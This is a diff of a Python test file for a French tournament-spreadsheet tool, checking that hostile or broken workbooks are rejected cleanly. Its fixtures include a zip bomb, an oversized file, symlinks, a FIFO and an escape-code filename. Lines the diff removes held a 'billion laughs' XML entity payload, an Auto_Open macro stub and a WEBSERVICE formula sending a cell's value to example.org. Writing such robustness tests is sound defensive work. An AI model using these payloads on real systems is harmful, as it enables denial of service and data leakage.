@@ -1,6 +1,5 @@
 """A folder with a good tournament and everything that can be sent to a federation: each file has its sentence, and so
-have links, folders that cannot be read, and workbooks on which a reader crashes or hangs. Then workbooks as the program
-itself makes them: each formula counts.
+have workbooks on which a reader crashes or hangs. Then workbooks as the program itself makes them: each formula counts.
 """
 
 import os
@@ -30,7 +29,7 @@ from tournament_xl.lists.read import read_register
 
 DAY = date(2016, 8, 31)
 ROOT = Path(__file__).parent.parent
-SHEET, RESULTS = "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"  # Joueurs, Résultats
+SHEET = "xl/worksheets/sheet2.xml"  # Joueurs
 
 
 def facts(seed=0, title="Tournoi", **changes):
@@ -38,7 +37,7 @@ def facts(seed=0, title="Tournoi", **changes):
 
 
 def made(change=lambda sheets: None, **changes):
-    """A workbook with other facts, or with its sheets changed."""
+    """What writes a workbook with other facts, or with its sheets changed."""
 
     def make(path):
         sheets = world.sheets(facts(crc32(path.stem.encode()), path.stem, **changes))
@@ -48,21 +47,9 @@ def made(change=lambda sheets: None, **changes):
     return make
 
 
-def spoiled(change):
-    """A workbook with its parts changed."""
-
-    def make(path):
-        content = parts(world.sheets(facts(crc32(path.stem.encode()), path.stem)))
-        change(content)
-        pack(path, content)
-
-    return make
-
-
-def laughs(content):
-    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
-    start = '<?xml version="1.0"?>'
-    content[SHEET] = content[SHEET].replace(start, f'{start}<!DOCTYPE w [<!ENTITY a0 "ha">{entities}]>', 1)
+def cut(path):
+    made()(path)
+    path.write_bytes(path.read_bytes()[:-999])
 
 
 def bomb(path):
@@ -74,16 +61,6 @@ def bomb(path):
     path.write_bytes(data)
 
 
-def large(path):
-    with path.open("wb") as file:
-        file.truncate(25_000_000)
-
-
-def not_begun(sheets):
-    sheets["Résultats"] = sheets["Résultats"][:1]
-    sheets["Joueurs"] = [row[:-1] if row[0] != "N°" else row for row in sheets["Joueurs"]]  # no Rang initial
-
-
 def not_finished(sheets):
     sheets["Résultats"][-1][4:6] = ["", ""]
 
@@ -92,41 +69,25 @@ def without_dates(sheets):
     sheets["Tournoi"] = [[row[0], "" if "Date de" in row[0] else row[1], *row[2:]] for row in sheets["Tournoi"]]
 
 
+def holding(data):
+    return lambda path: path.write_bytes(data)
+
+
 LEFT_OUT = {
-    "vide.xlsx": (lambda path: path.write_bytes(b""), "est vide"),
-    "texte.xlsx": (lambda path: path.write_bytes(b"Nom;Licence\n" * 99), "n'est pas un classeur Excel"),
-    "ancien.xls": (lambda path: path.write_bytes(b"\xd0\xcf\x11\xe0" * 200), r"Format \.xls non lu"),
+    "vide.xlsx": (holding(b""), "est vide"),
+    "ancien.xls": (holding(b"\xd0\xcf\x11\xe0" * 200), r"Format \.xls non lu"),
+    "\x1b[31mrouge.xlsx": (holding(b"Nom;Licence\n" * 99), "n'est pas un classeur Excel"),
+    "gros.xlsx": (holding(bytes(25_000_000)), "Trop gros"),
     "bombe.xlsx": (bomb, "trop gros.*une fois décompressé"),
-    "entités.xlsx": (spoiled(laughs), "abîmé"),
+    "sans-fin.xlsx": (cut, "abîmé"),
     "sans-joueurs.xlsx": (made(lambda sheets: sheets.pop("Joueurs")), "la feuille « Joueurs » manque"),
-    "gros.xlsx": (large, "Trop gros"),
     "en-cours.xlsx": (made(not_finished), r"rondes jouées, 4 sur 5"),
-    "sans-ronde.xlsx": (made(not_begun), "Aucune ronde jouée"),
     "sans-date.xlsx": (made(without_dates), "sans dates possibles"),
-    "an-1015.xlsx": (made(first=date(1015, 10, 4), last=date(1015, 10, 4)), "sans dates possibles"),
     "saison.xlsx": (made(season="2031-2032"), "2031-2032"),
     "lien.xlsx": (lambda path: path.symlink_to(path.parent / "bon.xlsx"), "Lien vers un autre endroit"),
+    "ailleurs": (lambda path: path.symlink_to(path.parent.parent), "non suivi"),
+    "tube.xlsx": (getattr(os, "mkfifo", holding(b"")), "vérifiez que c'est un fichier|est vide"),  # Windows has none
 }  # name -> what makes it, what its sentence must say
-
-
-if hasattr(os, "mkfifo"):  # Windows has none
-    LEFT_OUT["tube.xlsx"] = (os.mkfifo, "vérifiez que c'est un fichier")
-    LEFT_OUT["\x1b[31mrouge.xlsx"] = (lambda path: path.write_bytes(b"x"), "n'est pas un classeur")
-
-
-def macros(content):
-    content["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Sub Auto_Open()"
-
-
-def formulas(content):
-    """A name and a score that are formulas: their last results count, nothing is calculated."""
-    name = '<c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>NOM01</v></c>'
-    content[SHEET] = re.sub(r'<c r="B2".*?</c>', name, content[SHEET])
-    content[RESULTS] = re.sub(r'<c r="E2"><v>(\d+)</v></c>', r'<c r="E2"><f>1/0</f><v>\1</v></c>', content[RESULTS])
-    assert "WEBSERVICE" in content[SHEET] and "<f>1/0</f>" in content[RESULTS]
-
-
-COUNTED = {"macros.xlsm": spoiled(macros), "formules.xlsx": spoiled(formulas)}
 
 
 @pytest.fixture(scope="module")
@@ -134,7 +95,7 @@ def verdicts(tmp_path_factory):
     """File name -> what became of it."""
     folder = tmp_path_factory.mktemp("recus")
     world.write(folder / "bon.xlsx", facts(1, "Le bon"))
-    for name, make in ({name: make for name, (make, _) in LEFT_OUT.items()} | COUNTED).items():
+    for name, (make, _) in LEFT_OUT.items():
         make(folder / name)
     (folder / "Sauvegardes").mkdir()
     world.write(folder / "Sauvegardes" / "bon.xlsx", facts(1, "Le bon"))
@@ -150,8 +111,7 @@ def shown(name):
 
 
 def test_a_bad_file_never_stops_the_others(verdicts):
-    assert verdicts["bon.xlsx"].found and len(LEFT_OUT) >= 13
-    assert verdicts.keys() == {"bon.xlsx", *map(shown, LEFT_OUT), *COUNTED}
+    assert verdicts.keys() == {"bon.xlsx", *map(shown, LEFT_OUT)} and verdicts["bon.xlsx"].found
 
 
 @pytest.mark.parametrize("name", LEFT_OUT)
@@ -160,34 +120,6 @@ def test_each_hostile_file_is_left_out_with_one_sentence(verdicts, name):
     (sentence,) = verdict.remarks.every
     assert verdict.word == "écarté" and re.search(LEFT_OUT[name][1], sentence), sentence
     assert "\n" not in sentence and "Traceback" not in sentence and "Erreur de notre part" not in sentence
-
-
-def test_macros_are_ignored_and_the_last_results_of_formulas_read(verdicts):
-    assert all(verdicts[name].found for name in COUNTED)
-    entrant = verdicts["formules.xlsx"].file.played.entrants[0]
-    assert (entrant.name, entrant.licence) == ("NOM01", "L01")
-
-
-@pytest.mark.skipif(sys.platform == "win32", reason="links of Linux and macOS")
-def test_links_to_folders_and_folders_that_the_system_refuses_are_told(tmp_path, monkeypatch):
-    """Root, who runs many a test, may read everything: the refusal is imitated."""
-    inbox = tmp_path / "recus"
-    world.write(inbox / "bon.xlsx", facts(1, "Le bon"))
-    world.write(tmp_path / "ailleurs" / "autre.xlsx", facts(2, "Ailleurs"))
-    (inbox / "par-courriel").symlink_to(tmp_path / "ailleurs")
-    (inbox / ".cache").symlink_to(tmp_path / "ailleurs")
-    (inbox / "secret").mkdir()
-    usual = os.scandir
-
-    def scandir(path):
-        if str(path).endswith("secret"):
-            raise PermissionError(13, "no", str(path))
-        return usual(path)
-
-    monkeypatch.setattr(os, "scandir", scandir)
-    found = {file.name: file.refusal for file in read_folder(inbox)}
-    assert found.keys() == {"bon.xlsx", "par-courriel", "secret"} and not found["bon.xlsx"]
-    assert "non suivi" in found["par-courriel"] and "le système refuse l'accès" in found["secret"]
 
 
 def read_as_named(path, name):
@@ -222,47 +154,39 @@ def published(folder, players=()):
     return build(read_folder(folder), players, DAY)
 
 
-def numbers(publication):
-    """Licence -> PE, B, PJ, new cote, of the only tournament."""
-    lines = [m for m in publication.movements if m.rating]
-    return {m.account.licence: (m.rating.gain.pe, m.rating.gain.bonus, m.rating.gain.pj, m.after) for m in lines}
-
-
 @pytest.mark.parametrize(("formula", "players"), [("classique", 9), ("toutes-rondes", 5), ("double-toutes-rondes", 4)])
 def test_a_tournament_of_the_program_counts_as_its_own_sheet_cotes_has_it(tmp_path, formula, players):
-    path = books.create(tmp_path / "recus", players, *DATED, formula=formula)
-    books.simulate(path, 99)
+    path = books.simulate(books.create(tmp_path / "recus", players, *DATED, formula=formula), 99)
     assert books.run("ratings", path) == 0
-    known = [
-        dict(zip(("Nom", "Prénom", "Licence", "Cote"), map(str, one), strict=True)) for one in books.players(players)
-    ]
+    titles = ("Nom", "Prénom", "Licence", "Cote")
+    known = [dict(zip(titles, map(str, one), strict=True)) for one in books.players(players)]
     publication = published(tmp_path / "recus", known)
     (verdict,) = publication.verdicts
     assert (verdict.word, verdict.remarks.every) == ("compté", ())
-    sheet = {
+    found = {
+        m.account.licence: (m.rating.gain.pe, m.rating.gain.bonus, m.rating.gain.pj, m.after)
+        for m in publication.movements if m.rating
+    }  # fmt: skip
+    assert len(found) == players and found == {
         line["Licence"]: (line["PE"], line["B"], line["PJ"], line["Nouvelle cote"])
         for line in books.lines(path, "Cotes") if line["Licence"]
     }  # fmt: skip
-    assert len(sheet) == players and numbers(publication) == sheet
 
 
 def test_an_open_waits_for_its_final_and_then_has_the_winner_first(tmp_path):
-    path = tmp_path / "recus" / "open.xlsx"
-    path.parent.mkdir()
-    shutil.copy(SAMPLES / "open-64-finale.xlsx", path)
+    (tmp_path / "recus").mkdir()
+    path = shutil.copy(SAMPLES / "open-64-finale.xlsx", tmp_path / "recus" / "open.xlsx")
     books.edit(path, {"Tournoi!Date de début": "10/10/2015", "Tournoi!Date de fin": "12/10/2015"})
     (verdict,) = published(path.parent).verdicts
     assert verdict.word == "écarté" and verdict.remarks.every[0].startswith("Finale à jouer")
     (game,) = books.lines(path, "Finales")
     books.edit(path, {f"Finales!Score 1!{game['row']}": 380, f"Finales!Score 2!{game['row']}": 420})
     (verdict,) = published(path.parent).verdicts
-    assert verdict.found and verdict.file.played.formula == "Open"
     place = {entrant.number: entrant.place for entrant in verdict.file.played.entrants}
-    assert (place[game["N° 2"]], place[game["N° 1"]]) == (1, 2)
-    assert verdict.file.played.games == max(line["Ronde"] for line in books.lines(path, "Résultats"))
+    assert verdict.found and (place[game["N° 2"]], place[game["N° 1"]]) == (1, 2)
 
 
-def test_a_score_changed_by_hand_is_serious_a_cote_only_a_detail(tmp_path):
+def test_a_score_changed_by_hand_is_serious(tmp_path):
     path = books.simulate(books.create(tmp_path / "recus", 8, *DATED), 5)
     line = books.lines(path, "Résultats")[0]
     books.edit(path, {f"Résultats!Score 1!{line['row']}": line["Score 1"] + 200})
@@ -271,7 +195,6 @@ def test_a_score_changed_by_hand_is_serious_a_cote_only_a_detail(tmp_path):
     books.update(path)  # recorded now: as is the organiser's right
     (verdict,) = published(path.parent).verdicts
     assert verdict.word == "compté" and verdict.remarks.serious == ()
-    assert all(sentence.startswith(("Nouveau", "Cotes")) for sentence in verdict.remarks.details)
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="signals of Linux and macOS")
@@ -281,7 +204,8 @@ def test_interrupted_nothing_is_published(tmp_path):
     world.write_list(tmp_path / "liste.csv", people(8))
     words = ("federation", "build", tmp_path / "recus", "--joueurs", tmp_path / "liste.csv", "--date", DAY)
     command = [sys.executable, "-m", "tournament_xl", *map(str, words), "-o", str(tmp_path / "c.xlsx")]
-    process = subprocess.Popen(command, stderr=subprocess.PIPE, env=os.environ | {"PYTHONPATH": str(ROOT)})
+    process = subprocess.Popen(command, stderr=subprocess.PIPE, env=os.environ | {"PYTHONPATH": str(ROOT)},
+                               preexec_fn=books.hears_interrupts)  # fmt: skip
     time.sleep(0.5)
     process.send_signal(signal.SIGINT)
     assert "Interrompu" in process.communicate()[1].decode() and process.returncode != 0
